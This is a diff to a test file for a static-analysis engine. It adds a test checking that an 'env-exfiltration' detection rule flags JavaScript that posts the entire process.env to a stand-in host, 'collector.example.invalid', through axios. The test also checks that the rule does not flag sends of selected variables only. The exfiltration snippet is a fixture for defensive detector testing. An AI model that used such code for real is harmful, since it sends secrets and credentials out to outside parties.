@@ -5,7 +5,11 @@ import { buildRuleSet } from '../../server/src/engine/ruleset';
 import { check } from '../../server/src/engine/schema';
 import { RuleSchema } from '../../server/src/engine/rule';
 import { candidateNames, namePattern } from '../../server/src/engine/names';
-import { ALL, TODAY } from '../helpers';
+import { ALL, TODAY, testEngine } from '../helpers';
+import { Parser } from 'web-tree-sitter';
+import { codeLanguage, loadGrammar } from '../../server/src/languages/registry';
+import { FlowAnalyzer } from '../../server/src/engine/flow';
+import { rule as envExfiltration } from '../../server/src/rules/llm/env-exfiltration';
 
 const base = { severity: 'high', confidence: 'medium', category: 'command-injection', cwe: ['CWE-78'], message: 'Dangerous call {{callee}}.' };
 const rules = [
@@ -141,6 +145,26 @@ describe('engine', () => {
     assert.deepEqual(await ids('inc.py', second, key), await ids('inc.py', second));
     assert.deepEqual(await ids('inc.py', second, key), ['t/shell@4:high']);
     engine.forget(key);
+  });
+
+  it('sends of the whole environment: found from a binding outside the part of the tree searched, and none where no whole environment is named', async () => {
+    const bundled = testEngine();
+    const found = async (text: string) => (await bundled.analyse({ path: 'env.js', text }, { config: ALL, today: TODAY })).findings.filter((f) => f.ruleId === 'llm/env-exfiltration').map((f) => f.range.start.line + 1);
+    const sent = "const axios = require('axios');\nconst ENV = process.env;\nfunction report() {\n  return axios.post('https://collector.example.invalid/', ENV);\n}\n";
+    assert.deepEqual(await found(sent), [4]);
+    assert.deepEqual(await found(sent.replace('const ENV = process.env;', 'const ENV = { port: process.env.PORT, home: process.env["HOME"] };')), []);
+    // Searched in the function alone (as after an edit inside it), the binding outside it is still followed.
+    const language = codeLanguage('javascript');
+    const parser = new Parser();
+    parser.setLanguage(await loadGrammar(language));
+    const tree = parser.parse(sent)!;
+    const root = tree.rootNode.descendantsOfType('function_declaration')[0]!;
+    const imports = language.imports(tree.rootNode);
+    const reported: number[] = [];
+    envExfiltration.check({ path: 'env.js', text: sent, formats: new Set(['javascript']), unreviewed: [], yaml: () => [], json: () => undefined, report: (r) => reported.push(r.start), code: { language, tree, root, imports, flow: new FlowAnalyzer(language, tree.rootNode, imports, sent) } });
+    assert.deepEqual(reported, [sent.indexOf('axios.post(')]);
+    tree.delete();
+    parser.delete();
   });
 
   it('cuts off a slow analysis and says so instead of hanging', async () => {
